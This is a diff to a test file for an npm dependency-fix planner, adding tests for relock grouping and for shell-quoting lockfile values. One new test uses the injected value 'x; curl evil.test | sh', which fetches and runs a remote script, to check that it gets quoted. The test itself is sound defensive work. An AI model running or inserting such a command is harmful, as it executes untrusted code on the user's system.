@@ -8,7 +8,7 @@ import {applyDirect, applyInPlace, upgradedRange} from '../src/remediation/apply
 import {parseNpmLock} from '../src/remediation/npm-lock-graph'
 import {planFixes, type FixPlan} from '../src/remediation/plan-fixes'
 import {createRegistryClient} from '../src/remediation/registry-client'
-import {installCommand, renderFixPlan} from '../src/remediation/render-fix-plan'
+import {installCommand, renderFixPlan, shellWord} from '../src/remediation/render-fix-plan'
 import {offlineSource} from '../src/sources/offline-db'
 import {startFakeNpmRegistry, type FakeNpmRegistry} from './fake-npm-registry'
 import {OSV_DIR, REPO_ROOT} from './osv-fixtures'
@@ -113,6 +113,21 @@ describe('fix --deps plan on a real lockfile (actions/toolkit, package-lock v2)'
     expect(installCommand(relock[0]!)).toMatch(/^npm update @babel\/traverse/)
   })
 
+  it('does not move a companion that another dependent would refuse (tough-cookie needs universalify ^0.2.0)', () => {
+    expect(full.inPlace.some(f => f.name === 'tough-cookie' || f.name === 'universalify')).toBe(
+      false
+    )
+    const relock = full.direct.filter(u => u.relock).flatMap(u => u.fixes)
+    expect(relock.some(f => f.name === 'tough-cookie' && f.version === '4.0.0')).toBe(true)
+  })
+
+  it('prints all relocks of a folder as one npm update', () => {
+    const text = renderFixPlan(full, stripControl)
+    expect(text.match(/^ {2}npm update .*$/gm)).toEqual([
+      '  npm update @babel/traverse tough-cookie semver'
+    ])
+  })
+
   it('leaves nothing without a fix', () => {
     expect(full.unfixed).toEqual([])
   })
@@ -214,6 +229,14 @@ describe('fix --deps on direct dependencies pinned in package.json', () => {
     } finally {
       registry.override.delete('minimist')
     }
+  })
+})
+
+describe('printed commands', () => {
+  it('quotes anything from the lockfile that is not a plain npm name or version', () => {
+    expect(shellWord('@babel/traverse@7.23.2')).toBe('@babel/traverse@7.23.2')
+    expect(shellWord('x; curl evil.test | sh')).toBe("'x; curl evil.test | sh'")
+    expect(shellWord("a'b")).toBe("'a'\\''b'")
   })
 })
 
